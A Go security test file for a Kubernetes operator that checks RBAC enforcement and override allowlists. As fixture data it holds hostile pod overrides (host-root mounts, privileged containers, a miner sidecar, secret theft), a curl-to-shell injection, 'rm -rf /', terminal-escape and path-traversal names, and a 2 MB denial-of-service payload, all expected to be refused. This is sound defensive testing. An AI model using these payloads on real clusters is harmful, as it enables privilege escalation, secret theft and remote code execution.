//go:build attack

package attack

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/dgdr-operator/dgdr-operator/api/v1beta2"
	"github.com/dgdr-operator/dgdr-operator/internal/promote"
	testenv "github.com/dgdr-operator/dgdr-operator/internal/testing/env"
	"github.com/dgdr-operator/dgdr-operator/test/sandboxtest"
)

// requestRules are the rights of a tenant T who may only work with requests.
var requestRules = []rbacv1.PolicyRule{{APIGroups: []string{v1beta2.GroupVersion.Group},
	Resources: []string{"dynamographdeploymentrequests"}, Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"}}}

// deployerRules add what deploying means: DynamoGraphDeployments, pods and the Secrets the
// deployment reads.
var deployerRules = append(append([]rbacv1.PolicyRule(nil), requestRules...),
	rbacv1.PolicyRule{APIGroups: []string{v1beta2.GroupVersion.Group}, Resources: []string{"dynamographdeployments"}, Verbs: []string{"get", "create", "update"}},
	rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"create"}},
	rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get"}})

// asUser binds rules to user in ns by RBAC (a Role and a RoleBinding) and returns a client that
// impersonates the user (with the group every authenticated user has), as the API server would
// see a user authenticated by a token.
func asUser(t *testing.T, ns, user string, rules []rbacv1.PolicyRule) client.Client {
	t.Helper()
	return testenv.UserClient(t, k8s, env.Config, ns, user, rules)
}

// tenantSecret is a Secret of the namespace that T may not read.
const tenantSecret = "team-b-credentials"

// hostileOverrides are what T would like every rendered pod to carry.
const hostileOverrides = `{"spec":{"serviceAccountName":"default","volumes":[{"name":"host","hostPath":{"path":"/"}}],` +
	`"containers":[{"name":"main","securityContext":{"privileged":true},"env":[{"name":"STOLEN","valueFrom":{"secretKeyRef":{"name":"` +
	tenantSecret + `","key":"token"}}}]},{"name":"sidecar","image":"evil.example/miner:latest"}]}}`

// attackRequest is a small search of model in ns (four trials, a second or two on the sandbox).
func attackRequest(ns, name string, mut func(*v1beta2.DynamoGraphDeploymentRequest)) *v1beta2.DynamoGraphDeploymentRequest {
	d := smallRequest(ns, name).GPUBudget(8).Obj()
	if mut != nil {
		mut(d)
	}
	return d
}

func workersOverride(patch string) func(*v1beta2.DynamoGraphDeploymentRequest) {
	return func(d *v1beta2.DynamoGraphDeploymentRequest) {
		if d.Spec.Deployment == nil {
			d.Spec.Deployment = &v1beta2.DeploymentSpec{}
		}
		d.Spec.Deployment.PodTemplateOverrides = &v1beta2.PodTemplateOverrides{Workers: &runtime.RawExtension{Raw: []byte(patch)}}
	}
}

func autoApplyAs(name string) func(*v1beta2.DynamoGraphDeploymentRequest) {
	return func(d *v1beta2.DynamoGraphDeploymentRequest) {
		if d.Spec.Deployment == nil {
			d.Spec.Deployment = &v1beta2.DeploymentSpec{}
		}
		d.Spec.Deployment.AutoApply = ptr.To(true)
		d.Spec.Deployment.Name = name
	}
}

// statusOf returns the API status of err (nil when err is not one).
func statusOf(err error) *metav1.Status {
	var s apierrors.APIStatus
	if !errors.As(err, &s) {
		return nil
	}
	st := s.Status()
	return &st
}

// causeFields lists the field paths of an Invalid error's causes.
func causeFields(err error) []string {
	s := statusOf(err)
	if s == nil || s.Details == nil {
		return nil
	}
	var out []string
	for _, c := range s.Details.Causes {
		out = append(out, c.Field)
	}
	return out
}

// deploymentsOf lists the DynamoGraphDeployments of ns.
func deploymentsOf(t *testing.T, ns string) []unstructured.Unstructured {
	t.Helper()
	list := &unstructured.UnstructuredList{}
	list.SetGroupVersionKind(promote.GVK.GroupVersion().WithKind("DynamoGraphDeploymentList"))
	if err := k8s.List(context.Background(), list, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	return list.Items
}

// TestAutoApplyFollowsTheUsersRights: T, who may only work with requests, asks for autoApply
// (with overrides that would give every worker a host mount, a privileged sidecar and another
// team's Secret, and with that Secret as the model token). The API server answers 403, naming
// each right T lacks. T's edit of another user's autoApply request is refused the same way. A
// user D who holds the rights (DynamoGraphDeployments, pods, the Secret) still gets autoApply:
// the request is admitted and deployed. Nothing of T's ever reaches a DynamoGraphDeployment.
// Without the check, the operator deploys T's overrides and Secret with its own client.
func TestAutoApplyFollowsTheUsersRights(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	if err := k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: tenantSecret},
		StringData: map[string]string{"token": "hf_secret"}}); err != nil {
		t.Fatal(err)
	}
	tenant := asUser(t, ns, "tenant-t", requestRules)
	deployer := asUser(t, ns, "deployer-d", deployerRules)

	attempts := map[string]*v1beta2.DynamoGraphDeploymentRequest{
		"autoApply": attackRequest(ns, "t-auto", autoApplyAs("t-serving")),
		"autoApply with hostile overrides and another team's Secret": attackRequest(ns, "t-auto-hostile", func(d *v1beta2.DynamoGraphDeploymentRequest) {
			autoApplyAs("t-serving")(d)
			workersOverride(hostileOverrides)(d)
			d.Spec.Model.TokenSecretRef = &v1beta2.TokenSecretReference{Name: tenantSecret, Key: "token"}
		}),
		"remoteCode AlwaysTrust": attackRequest(ns, "t-trust", func(d *v1beta2.DynamoGraphDeploymentRequest) {
			d.Spec.Model.RemoteCode = v1beta2.RemoteCodeAlwaysTrust
		}),
	}
	for what, d := range attempts {
		err := tenant.Create(ctx, d)
		s := statusOf(err)
		if s == nil || s.Code != http.StatusForbidden {
			t.Errorf("T's %s: %v, want 403", what, err)
			continue
		}
		for _, right := range []string{"create pods", "create dynamographdeployments.nvidia.com", "update dynamographdeployments.nvidia.com"} {
			if !strings.Contains(s.Message, right) {
				t.Errorf("T's %s: the 403 does not name %q: %s", what, right, s.Message)
			}
		}
		if d.Spec.Model.TokenSecretRef != nil && !strings.Contains(s.Message, "get secrets/"+tenantSecret) {
			t.Errorf("T's %s: the 403 does not name get secrets/%s: %s", what, tenantSecret, s.Message)
		}
	}

	// D may: the request is admitted, its search succeeds and the deployment is created.
	own := attackRequest(ns, "d-auto", autoApplyAs("d-serving"))
	if err := deployer.Create(ctx, own); err != nil {
		t.Fatalf("D's autoApply request: %v", err)
	}
	sandboxtest.WaitFor(t, searchTimeout, poll, "D's deployment d-serving", func(ctx context.Context) (bool, string, error) {
		dgd := &unstructured.Unstructured{}
		dgd.SetGroupVersionKind(promote.GVK)
		err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: "d-serving"}, dgd)
		return err == nil, fmt.Sprint(err), client.IgnoreNotFound(err)
	})

	// T edits D's request to add the hostile overrides and the Secret: its next generation would
	// be deployed. 403, naming the rights.
	// (Merge patches, as kubectl patch sends them: no resourceVersion, so the operator's status
	// writes cannot make them conflict.)
	edit := func(body string) error {
		return tenant.Patch(ctx, own.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(body)))
	}
	hostile, err := json.Marshal(map[string]any{"spec": map[string]any{
		"deployment": map[string]any{"podTemplateOverrides": map[string]any{"workers": json.RawMessage(hostileOverrides)}},
		"model":      map[string]any{"tokenSecretRef": map[string]any{"name": tenantSecret, "key": "token"}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	if err := edit(string(hostile)); !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "create pods") {
		t.Errorf("T's edit of D's autoApply request: %v, want 403 naming create pods", err)
	}
	// Even an innocent-looking edit (another SLA) of D's autoApply request would redeploy: 403.
	if err := edit(`{"spec":{"sla":{"ttftMs":400}}}`); !apierrors.IsForbidden(err) {
		t.Errorf("T's SLA edit of D's autoApply request: %v, want 403", err)
	}

	// No deployment carries anything of T's: not its overrides, not the Secret, not its names.
	time.Sleep(2 * time.Second) // anything the operator would have done for T has had time
	for _, dgd := range deploymentsOf(t, ns) {
		raw, err := json.Marshal(dgd.Object)
		if err != nil {
			t.Fatal(err)
		}
		for _, bad := range []string{tenantSecret, "hostPath", "privileged", "evil.example", "t-serving"} {
			if strings.Contains(string(raw), bad) {
				t.Errorf("DynamoGraphDeployment %s carries %q of T's", dgd.GetName(), bad)
			}
		}
	}
	var reqs v1beta2.DynamoGraphDeploymentRequestList
	if err := k8s.List(ctx, &reqs, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	if len(reqs.Items) != 1 {
		t.Errorf("%d requests stored, want only D's", len(reqs.Items))
	}
}

// TestOverridesOfAUserWithoutPods: T may still search, but its pod template overrides are
// limited to the allowlist. A service account, a hostPath volume, a privileged securityContext,
// a sidecar, a secretKeyRef, environment variables that load code or redirect downloads and
// traffic (LD_PRELOAD, PYTHONPATH, HF_ENDPOINT, HTTPS_PROXY, ...), CNI, mesh and secret-injector
// annotations and device-plugin resources are each refused (422) at their field path; a token
// Secret T may not read is refused with 403 naming it. The allowlisted override is admitted.
// Without the allowlists every one of them is admitted and rendered into each Candidate's
// deployment.
func TestOverridesOfAUserWithoutPods(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	tenant := asUser(t, ns, "tenant-t", requestRules)
	w := "spec.deployment.podTemplateOverrides.workers.spec."
	cases := []struct {
		name, patch, field string
	}{
		{"service-account", `{"spec":{"serviceAccountName":"admin"}}`, w + "serviceAccountName"},
		{"host-path", `{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}`, w + "volumes"},
		{"privileged", `{"spec":{"containers":[{"name":"main","securityContext":{"privileged":true}}]}}`, w + "containers[0].securityContext"},
		{"sidecar", `{"spec":{"containers":[{"name":"sidecar","image":"evil.example/miner:latest"}]}}`, w + "containers[0].name"},
		{"secret-key-ref", `{"spec":{"containers":[{"name":"main","env":[{"name":"STOLEN","valueFrom":{"secretKeyRef":{"name":"` + tenantSecret + `","key":"token"}}}]}]}}`,
			w + "containers[0].env[0].valueFrom"},
	}
	// Environment variables that load code into the engine or redirect what it downloads and
	// where its traffic goes, annotations that CNI plugins, meshes and secret injectors act on,
	// and device-plugin resources: each refused at its own key.
	env := func(name, value string) string {
		return `{"spec":{"containers":[{"name":"main","env":[{"name":"TZ","value":"UTC"},{"name":"` + name + `","value":"` + value + `"}]}]}}`
	}
	for _, name := range []string{"LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "HF_ENDPOINT", "HTTPS_PROXY", "http_proxy", "NCCL_NET_PLUGIN"} {
		cases = append(cases, struct{ name, patch, field string }{strings.ToLower(strings.ReplaceAll(name, "_", "-")),
			env(name, "/tmp/attacker"), w + "containers[0].env[1].name"})
	}
	annotation := func(key, value string) string {
		return `{"metadata":{"annotations":{"note":"x","` + key + `":"` + value + `"}}}`
	}
	for _, a := range [][2]string{{"k8s.v1.cni.cncf.io/networks", "kube-system/host-bridge"}, {"sidecar.istio.io/inject", "false"},
		{"vault.hashicorp.com/agent-inject", "true"}, {"cni.projectcalico.org/ipAddrs", "10.0.0.9"}} {
		cases = append(cases, struct{ name, patch, field string }{"annotation-" + strings.ToLower(strings.NewReplacer(".", "-", "/", "-").Replace(a[0])),
			annotation(a[0], a[1]), "spec.deployment.podTemplateOverrides.workers.metadata.annotations[" + a[0] + "]"})
	}
	for _, r := range []string{"rdma/hca", "nvidia.com/mig-1g.10gb", "hugepages-2Mi"} {
		cases = append(cases, struct{ name, patch, field string }{"resource-" + strings.NewReplacer(".", "-", "/", "-").Replace(strings.ToLower(r)),
			`{"spec":{"containers":[{"name":"main","resources":{"limits":{"cpu":"1","` + r + `":"1"}}}]}}`, w + "containers[0].resources.limits[" + r + "]"})
	}
	for _, tc := range cases {
		err := tenant.Create(ctx, attackRequest(ns, "t-"+tc.name, workersOverride(tc.patch)))
		if s := statusOf(err); s == nil || s.Code != http.StatusUnprocessableEntity || !contains(causeFields(err), tc.field) {
			t.Errorf("T's %s override: %v (fields %v), want 422 at %s", tc.name, err, causeFields(err), tc.field)
		}
	}
	err := tenant.Create(ctx, attackRequest(ns, "t-token", func(d *v1beta2.DynamoGraphDeploymentRequest) {
		d.Spec.Model.TokenSecretRef = &v1beta2.TokenSecretReference{Name: tenantSecret}
	}))
	if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "get secrets/"+tenantSecret) {
		t.Errorf("T's tokenSecretRef to a Secret it may not read: %v, want 403 naming get secrets/%s", err, tenantSecret)
	}
	allowed := `{"metadata":{"labels":{"team":"t"},"annotations":{"note":"x","prometheus.io/scrape":"true"}},"spec":{"tolerations":[{"key":"gpu","operator":"Exists"}],"nodeSelector":{"pool":"a"},` +
		`"containers":[{"name":"main","resources":{"limits":{"memory":"1Gi","nvidia.com/gpu":"1"}},"env":[{"name":"VLLM_LOGGING_LEVEL","value":"DEBUG"}]}]}}`
	if err := tenant.Create(ctx, attackRequest(ns, "t-search", workersOverride(allowed))); err != nil {
		t.Errorf("T's search with allowlisted overrides: %v", err)
	}
	var reqs v1beta2.DynamoGraphDeploymentRequestList
	if err := k8s.List(ctx, &reqs, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	if len(reqs.Items) != 1 {
		t.Errorf("%d requests stored, want only the allowlisted search", len(reqs.Items))
	}
}

// TestHugeOverrideIsRefusedFast: a 2 MB pod template override (100,000 env entries: strategic
// merge validation is quadratic in list length) is refused by the real webhook with 422 at its
// field path within one second, as a dry run (which admission still runs). Without the cap it is
// decoded and patched in full, for tens of seconds per request (beyond the API server's 10 s
// webhook timeout), on both replicas. Most of the second is the API server's own decoding and
// encoding of 100,000 objects; on a machine other jobs load (2 cores, load average above 10),
// one attempt can take longer, so the fastest of up to three attempts counts.
func TestHugeOverrideIsRefusedFast(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	var b strings.Builder
	b.WriteString(`{"spec":{"containers":[{"name":"main","env":[`)
	for i := 0; b.Len() < 2<<20; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `{"name":"E%d","value":"v"}`, i)
	}
	b.WriteString(`]}]}}`)
	const path = "spec.deployment.podTemplateOverrides.workers"
	fastest := time.Duration(0)
	for attempt := 1; attempt <= 3; attempt++ {
		d := attackRequest(ns, "huge", workersOverride(b.String()))
		t0 := time.Now()
		err := k8s.Create(ctx, d, client.DryRunAll)
		took := time.Since(t0)
		t.Logf("attempt %d: a %d-byte override refused in %s", attempt, b.Len(), took)
		if s := statusOf(err); s == nil || s.Code != http.StatusUnprocessableEntity || !contains(causeFields(err), path) {
			t.Fatalf("a 2 MB override: %v, want 422 at %s", err, path)
		}
		if fastest == 0 || took < fastest {
			fastest = took
		}
		if fastest < time.Second {
			break
		}
	}
	if fastest >= time.Second {
		t.Errorf("the 2 MB override took at least %s to refuse (fastest of three), want under 1 s", fastest)
	}
}

// TestBadNamesAreRefused: model names, revisions and deployment names that would reach
// terminals, engine command lines, file systems or URLs are refused at their field path by the
// real API server and webhook. Without the rules each is stored (and printed unescaped by
// dgdrctl status and the UI).
func TestBadNamesAreRefused(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	name, rev, dep := "spec.model.name", "spec.model.revision", "spec.deployment.name"
	cases := []struct {
		what  string
		mut   func(*v1beta2.DynamoGraphDeploymentRequest)
		field string
	}{
		{"model name with NUL", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Name = "org/m\x00" }, name},
		{"model name with an ANSI escape", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Name = "org/\x1b[2J\x1b[31mm" }, name},
		{"model name with an OSC hyperlink", func(d *v1beta2.DynamoGraphDeploymentRequest) {
			d.Spec.Model.Name = "org/m\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
		}, name},
		{"model name traversing", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Name = "../../etc/passwd" }, name},
		{"model name as a URL", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Name = "https://evil.example/org/m" }, name},
		{"model name with shell metacharacters", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Name = "org/m;curl evil.example|sh" }, name},
		{"model name as a local path", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Name = "/models/llama" }, name},
		{"engine.model through inputOverrides", func(d *v1beta2.DynamoGraphDeploymentRequest) {
			d.Spec.AISimulate.InputOverrides = &runtime.RawExtension{Raw: []byte(`{"engine":{"model":"attacker/model"}}`)}
		}, "spec.aisimulate.inputOverrides.engine.model"},
		{"engine.hardware through inputOverrides", func(d *v1beta2.DynamoGraphDeploymentRequest) {
			d.Spec.AISimulate.InputOverrides = &runtime.RawExtension{Raw: []byte(`{"engine":{"hardware":"b200_sxm"}}`)}
		}, "spec.aisimulate.inputOverrides.engine.hardware"},
		{"revision with a space", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Revision = "main; rm -rf /" }, rev},
		{"revision with a control character", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Revision = "main\r\n" }, rev},
		{"revision with an escape", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Revision = "\x1b]0;pwned\x07main" }, rev},
		{"revision as an engine flag", func(d *v1beta2.DynamoGraphDeploymentRequest) { d.Spec.Model.Revision = "--trust-remote-code" }, rev},
		{"deployment name of 64 characters", func(d *v1beta2.DynamoGraphDeploymentRequest) {
			d.Spec.Deployment = &v1beta2.DeploymentSpec{Name: strings.Repeat("d", 64)}
		}, dep},
	}
	for i, tc := range cases {
		err := k8s.Create(ctx, attackRequest(ns, fmt.Sprintf("bad-%d", i), tc.mut))
		if !apierrors.IsInvalid(err) || !contains(causeFields(err), tc.field) {
			t.Errorf("%s: %v (fields %v), want 422 at %s", tc.what, err, causeFields(err), tc.field)
		}
	}
	var reqs v1beta2.DynamoGraphDeploymentRequestList
	if err := k8s.List(ctx, &reqs, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	if len(reqs.Items) != 0 {
		t.Errorf("%d bad requests were stored", len(reqs.Items))
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
